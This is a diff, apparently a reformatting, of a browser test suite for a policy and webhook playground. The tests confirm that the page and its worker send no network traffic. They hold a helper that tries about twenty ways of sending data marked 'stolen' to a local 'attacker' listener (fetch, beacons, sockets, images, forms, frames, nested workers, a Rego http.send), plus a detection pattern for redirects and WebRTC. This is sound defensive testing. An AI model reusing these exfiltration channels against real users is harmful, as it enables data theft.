@@ -29,7 +29,11 @@ test('nobody is asked for anything while the page is used', real, async () => {
   context.on('request', (request) => asked.push(request.url()));
   const before = play.requests.length;
 
-  await retype(page, 'The message as raw HTTP', 'POST /hook HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"a": 1}');
+  await retype(
+    page,
+    'The message as raw HTTP',
+    'POST /hook HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"a": 1}',
+  );
   await page.keyboard.press('Control+Enter');
   await until(async () => /reject/.test(await said(page)), 'a verdict');
   await page.getByLabel('Example', { exact: true }).selectOption('sub2api/easy-4-formatted-body');
@@ -39,7 +43,7 @@ test('nobody is asked for anything while the page is used', real, async () => {
     await page.getByLabel('Example', { exact: true }).selectOption(select);
     await until(async () => /reject|fail/.test(await said(page)), 'a verdict');
     const tabs = page.getByRole('tab').and(page.locator(':visible'));
-    for (let at = 0; at < await tabs.count(); at += 1) await tabs.nth(at).click();
+    for (let at = 0; at < (await tabs.count()); at += 1) await tabs.nth(at).click();
   }
   for (const mode of ['Deployment', 'Webhook']) await page.getByRole('button', { name: mode, exact: true }).click();
   for (const action of ['Sign', 'Verify']) await page.getByRole('button', { name: action, exact: true }).click();
@@ -55,20 +59,35 @@ test('nobody is asked for anything while the page is used', real, async () => {
   await page.getByRole('button', { name: '中文' }).click();
   await page.getByRole('button', { name: 'English' }).click();
 
-  assert.deepEqual(asked.filter((url) => !/^(blob|data):/.test(url)), []);
+  assert.deepEqual(
+    asked.filter((url) => !/^(blob|data):/.test(url)),
+    [],
+  );
   assert.deepEqual(sent(before), []);
   await page.context().close();
 });
 
 test('every chunk is there before the network is closed', real, async () => {
   const page = await closedPage('#example=sub2api/section-2-minimal');
-  const came = new Set(await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name.replace(/^.*\//, ''))));
+  const came = new Set(
+    await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name.replace(/^.*\//, ''))),
+  );
   const chunks = readdirSync(join(play.dist, 'assets')).filter((name) => name.endsWith('.js'));
   assert.ok(chunks.length > 5);
-  assert.deepEqual(chunks.filter((name) => !came.has(name)), []);
+  assert.deepEqual(
+    chunks.filter((name) => !came.has(name)),
+    [],
+  );
   await page.getByRole('button', { name: 'Deployment', exact: true }).click();
-  const entry = { request: { method: 'POST', url: 'https://h.example/', headers: [], postData: { text: '{}' } }, response: { status: 200, headers: [], content: { text: '{}' } } };
-  await retype(page, 'Documents: YAML or JSON', JSON.stringify({ log: { version: '1.2', creator: {}, entries: [entry] } }));
+  const entry = {
+    request: { method: 'POST', url: 'https://h.example/', headers: [], postData: { text: '{}' } },
+    response: { status: 200, headers: [], content: { text: '{}' } },
+  };
+  await retype(
+    page,
+    'Documents: YAML or JSON',
+    JSON.stringify({ log: { version: '1.2', creator: {}, entries: [entry] } }),
+  );
   await until(async () => /^(pass|fail)/.test(await said(page)), 'a report of traffic');
   assert.equal(await page.locator('.banner:visible').count(), 0);
   await page.context().close();
@@ -88,9 +107,29 @@ test('the same code reaches whom it wants from a page without a policy', real, a
   const page = await (await play.context()).newPage();
   await page.goto(`${attacker.url}open`);
   await page.evaluate(tries, { url: attacker.url, inPage: true }).catch(() => undefined); // the form leads the page away
-  const ways = ['fetch', 'keepalive', 'xhr', 'socket', 'events', 'import.js', 'nested', 'beacon', 'image', 'style.css', 'object', 'font', 'frame', 'form'];
+  const ways = [
+    'fetch',
+    'keepalive',
+    'xhr',
+    'socket',
+    'events',
+    'import.js',
+    'nested',
+    'beacon',
+    'image',
+    'style.css',
+    'object',
+    'font',
+    'frame',
+    'form',
+  ];
   const named = (way) => attacker.heard().some((text) => / \/([\w.]+)\?stolen/.exec(text)?.[1] === way);
-  await until(() => ways.every(named), 'all of them').catch(() => assert.deepEqual(ways.filter((way) => !named(way)), []));
+  await until(() => ways.every(named), 'all of them').catch(() =>
+    assert.deepEqual(
+      ways.filter((way) => !named(way)),
+      [],
+    ),
+  );
   await page.context().close();
   attacker.forget();
 });
@@ -105,14 +144,20 @@ test('code in the page reaches nobody', real, async () => {
   await quiet(page, before);
 });
 
-test('code in the engine\'s worker reaches nobody, nor in the one after a killed run', real, async () => {
+test("code in the engine's worker reaches nobody, nor in the one after a killed run", real, async () => {
   const page = await closedPage('#example=policy/deny&rules=policy');
   const before = play.requests.length;
   const [first] = page.workers();
   for (const url of [attacker.url, play.url]) assert.deepEqual(await first.evaluate(tries, { url }), [], url);
 
-  const gone = new Promise((resolve) => { first.once('close', resolve); });
-  await retype(page, 'Policy, in Rego', 'package orders\n\ntext := concat("", [x | some i in numbers.range(1, 50000); x := "abcdefghij"])\n\ndeny contains "x" if {\n\tsome i in numbers.range(1, 100000)\n\tcount(split(text, sprintf("%d", [i]))) == 0\n}\n');
+  const gone = new Promise((resolve) => {
+    first.once('close', resolve);
+  });
+  await retype(
+    page,
+    'Policy, in Rego',
+    'package orders\n\ntext := concat("", [x | some i in numbers.range(1, 50000); x := "abcdefghij"])\n\ndeny contains "x" if {\n\tsome i in numbers.range(1, 100000)\n\tcount(split(text, sprintf("%d", [i]))) == 0\n}\n',
+  );
   await until(async () => /was ended/.test(await said(page)), 'the end of the run');
   await gone;
   await retype(page, 'Policy, in Rego', 'package orders\n');
@@ -125,18 +170,33 @@ test('code in the engine\'s worker reaches nobody, nor in the one after a killed
 // No policy binds WebRTC in any browser today: no code here knows it, and where policies run it does not exist.
 test('nothing that no policy binds is in the code, nor in the worker', real, async () => {
   const page = await closedPage();
-  assert.deepEqual(await page.workers()[0].evaluate(() => ['RTCPeerConnection', 'open', 'document', 'localStorage'].filter((name) => name in globalThis)), []);
+  assert.deepEqual(
+    await page
+      .workers()[0]
+      .evaluate(() => ['RTCPeerConnection', 'open', 'document', 'localStorage'].filter((name) => name in globalThis)),
+    [],
+  );
   const scripts = readdirSync(join(play.dist, 'assets')).filter((name) => name.endsWith('.js'));
   const code = scripts.map((name) => readFileSync(join(play.dist, 'assets', name), 'utf8')).join('\n');
-  assert.doesNotMatch(code, /RTCPeerConnection|window\.open\b|preconnect|dns-prefetch|location\.(assign|replace)|location(\.href)?\s*=(?!=)/);
+  assert.doesNotMatch(
+    code,
+    /RTCPeerConnection|window\.open\b|preconnect|dns-prefetch|location\.(assign|replace)|location(\.href)?\s*=(?!=)/,
+  );
   await page.context().close();
 });
 
 test('a policy that calls http.send reaches nobody', real, async () => {
   const page = await closedPage('#example=policy/deny&rules=policy');
   const before = play.requests.length;
-  await retype(page, 'Policy, in Rego', `package orders\n\ndeny contains "sent" if http.send({"method": "get", "url": "${attacker.url}?policy"}).status_code == 200\n`);
-  await until(async () => /http\.send/.test(await page.locator('.pane-result').innerText()), 'what is said of http.send');
+  await retype(
+    page,
+    'Policy, in Rego',
+    `package orders\n\ndeny contains "sent" if http.send({"method": "get", "url": "${attacker.url}?policy"}).status_code == 200\n`,
+  );
+  await until(
+    async () => /http\.send/.test(await page.locator('.pane-result').innerText()),
+    'what is said of http.send',
+  );
   await quiet(page, before);
 });
 
@@ -190,11 +250,12 @@ async function quiet(page, before) {
 async function tries({ url, inPage = false }) {
   const at = (name) => `${url}${name}?stolen`;
   const socket = (name) => at(name).replace(/^http/, 'ws');
-  const event = (target, good, bad) => new Promise((resolve, reject) => {
-    target.addEventListener(good, resolve);
-    target.addEventListener(bad, reject);
-    setTimeout(reject, 2000, new Error('no answer'));
-  });
+  const event = (target, good, bad) =>
+    new Promise((resolve, reject) => {
+      target.addEventListener(good, resolve);
+      target.addEventListener(bad, reject);
+      setTimeout(reject, 2000, new Error('no answer'));
+    });
   const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
   const ways = {
     fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
@@ -212,20 +273,33 @@ async function tries({ url, inPage = false }) {
     cache: async () => (await caches.open('stolen')).add(at('cache')),
     workerOfUrl: () => event(new Worker(at('worker.js')), 'message', 'error'),
     // A worker within, which must be bound as well.
-    workerOfBlob: () => event(new Worker(blob(`fetch(${JSON.stringify(at('nested'))}, { mode: 'no-cors' }).then(() => postMessage(1), () => { throw new Error('refused'); })`)), 'message', 'error'),
+    workerOfBlob: () =>
+      event(
+        new Worker(
+          blob(
+            `fetch(${JSON.stringify(at('nested'))}, { mode: 'no-cors' }).then(() => postMessage(1), () => { throw new Error('refused'); })`,
+          ),
+        ),
+        'message',
+        'error',
+      ),
     webTransport: () => new WebTransport(at('transport').replace(/^http:/, 'https:')).ready,
   };
-  const append = (name, attributes, good = 'load') => () => {
-    const element = Object.assign(document.createElement(name), attributes);
-    const done = event(element, good, 'error');
-    document.body.append(element);
-    return done.finally(() => element.remove());
-  };
+  const append =
+    (name, attributes, good = 'load') =>
+    () => {
+      const element = Object.assign(document.createElement(name), attributes);
+      const done = event(element, good, 'error');
+      document.body.append(element);
+      return done.finally(() => element.remove());
+    };
   if (inPage) {
     Object.assign(ways, {
       beacon: () => {
         if (!navigator.sendBeacon(at('beacon'), 'stolen')) throw new Error('refused');
-        return new Promise((_, reject) => { setTimeout(reject, 500); }); // it is true where it is only queued: the listener tells
+        return new Promise((_, reject) => {
+          setTimeout(reject, 500);
+        }); // it is true where it is only queued: the listener tells
       },
       image: append('img', { src: at('image') }),
       script: append('script', { src: at('script.js') }),
@@ -250,7 +324,9 @@ async function tries({ url, inPage = false }) {
         const frame = document.createElement('iframe');
         frame.src = at('frame');
         document.body.append(frame);
-        await new Promise((resolve) => { setTimeout(resolve, 300); });
+        await new Promise((resolve) => {
+          setTimeout(resolve, 300);
+        });
         frame.remove();
         throw new Error('nobody says');
       },
@@ -258,7 +334,9 @@ async function tries({ url, inPage = false }) {
         const form = Object.assign(document.createElement('form'), { action: at('form'), method: 'post' });
         document.body.append(form);
         form.submit();
-        await new Promise((resolve) => { setTimeout(resolve, 300); });
+        await new Promise((resolve) => {
+          setTimeout(resolve, 300);
+        });
         form.remove();
         throw new Error('nobody says');
       },
@@ -267,14 +345,16 @@ async function tries({ url, inPage = false }) {
     });
   }
   const through = [];
-  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
-    try {
-      await way();
-      through.push(name);
-    } catch {
-      // As it should be.
-    }
-  }));
+  await Promise.all(
+    Object.entries(ways).map(async ([name, way]) => {
+      try {
+        await way();
+        through.push(name);
+      } catch {
+        // As it should be.
+      }
+    }),
+  );
   return through;
 }
 
@@ -287,7 +367,9 @@ async function listener() {
     socket.on('error', () => undefined);
     socket.on('data', (bytes) => {
       one.text += bytes.toString('latin1');
-      socket.end('HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\nok');
+      socket.end(
+        'HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\nok',
+      );
     });
   });
   await once(server.listen(0, '127.0.0.1'), 'listening');
@@ -295,7 +377,12 @@ async function listener() {
     url: `http://127.0.0.1:${server.address().port}/`,
     // Of a frame that it refuses, the browser has opened a connection before, and says nothing on it.
     heard: () => all.map(({ text }) => text).filter((text) => text !== ''),
-    forget: () => { all = []; },
-    stop: () => new Promise((resolve) => { server.close(resolve); }),
+    forget: () => {
+      all = [];
+    },
+    stop: () =>
+      new Promise((resolve) => {
+        server.close(resolve);
+      }),
   };
 }
